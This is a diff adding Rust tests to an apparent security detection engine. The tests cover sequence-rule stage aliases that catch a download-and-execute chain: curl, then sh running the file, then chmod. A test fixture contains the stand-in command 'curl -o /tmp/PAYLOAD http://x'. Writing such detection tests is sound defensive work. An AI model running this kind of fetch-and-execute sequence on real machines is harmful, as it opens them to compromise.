@@ -801,3 +801,65 @@ fn a_hook_sees_the_join_key_and_all_events_of_a_sequence() {
     assert_eq!(alerts[0].enrichments["n"], 2);
     assert_eq!(alerts[0].join_key["host.id"], "h9");
 }
+
+/// `[ ... ] as event0` and `event0.field` in later stages (Elastic Defend's
+/// behaviour rules): a later stage is checked against the events of the
+/// partial sequence it would join, so a near miss (the wrong file) waits
+/// and the right event completes it. Also with events arriving out of
+/// order (held, then checked when the partial exists).
+#[test]
+fn stage_aliases_read_earlier_events_of_the_same_sequence() {
+    let q = r#"sequence by host.id with maxspan=1m
+        [process where process.name == "curl"] as event0
+        [process where process.name == "sh" and
+           stringcontains~(event0.process.command_line, process.args)] as event1
+        [process where process.name == "chmod" and process.pid == event1.process.pid]"#;
+    let with = |mut e: Event, cmd: Option<&str>, args: &[&str], pid: u32| {
+        e.process.command_line = cmd.map(Into::into);
+        e.process.args = args.iter().map(|a| (*a).into()).collect();
+        e.process.pid = Some(pid);
+        e
+    };
+    let curl = with(
+        ev(S, Some("h"), "curl"),
+        Some("curl -o /tmp/PAYLOAD http://x"),
+        &[],
+        1,
+    );
+    let sh_other = with(ev(2 * S, Some("h"), "sh"), None, &["/tmp/other"], 2);
+    let sh = with(ev(3 * S, Some("h"), "sh"), None, &["/tmp/payload"], 3);
+    let chmod_other = with(ev(4 * S, Some("h"), "chmod"), None, &[], 99);
+    let chmod = with(ev(5 * S, Some("h"), "chmod"), None, &[], 3);
+    let events = [curl, sh_other, sh, chmod_other, chmod];
+    let want = vec![vec![
+        "curl@1000000000".to_string(),
+        "sh@3000000000".to_string(),
+        "chmod@5000000000".to_string(),
+    ]];
+    assert_eq!(ids(&run(q, &events)), want);
+    // Near misses only: no alert.
+    assert!(run(q, &events[..4]).is_empty());
+    // The same events arriving in reverse order within the reorder window.
+    let mut reversed = events.to_vec();
+    reversed.reverse();
+    assert_eq!(ids(&run(q, &reversed)), want);
+    // An alias field vigil never records reads as null: no match, no error.
+    let unknown = r#"sequence by host.id
+        [process where process.name == "curl"] as event0
+        [process where startswith~(process.executable, event0.Persistence.args)]"#;
+    assert!(run(unknown, &events).is_empty());
+}
+
+#[test]
+fn an_alias_names_one_stage_and_only_earlier_stages_read_it() {
+    let e =
+        query::compile(r#"sequence [process where true] as event0 [process where true] as event0"#)
+            .unwrap_err();
+    assert!(e.message.contains("names an earlier stage"), "{e}");
+    // `event1` is not (yet) a stage in stage 0: a field nobody records.
+    let (_, warnings) = query::compile_with_warnings(
+        r#"sequence [process where event1.process.pid == 1] as event1 [process where process.pid == event1.process.pid]"#,
+    )
+    .unwrap();
+    assert_eq!(warnings.len(), 1, "{warnings:?}");
+}
